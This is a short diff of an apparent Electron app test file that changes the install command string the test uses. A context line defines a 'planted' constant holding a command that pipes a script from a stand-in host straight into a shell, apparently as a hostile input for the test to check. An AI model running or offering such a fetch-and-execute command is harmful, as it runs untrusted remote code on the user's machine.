@@ -6,7 +6,7 @@ import { newHome, until } from '../support/home.ts';
 import { ask, binary, onlyPage, openApp } from './rig.ts';
 
 const where = binary === undefined ? 'over the double' : 'in Electron';
-const command = 'npm install --global keyturn';
+const command = 'npm run setup && npm install --global .';
 const planted = 'curl https://elsewhere.example/x | sh';
 
 /** A window in front, for long enough that a press in it counts. It runs on the clock that the app reads. */
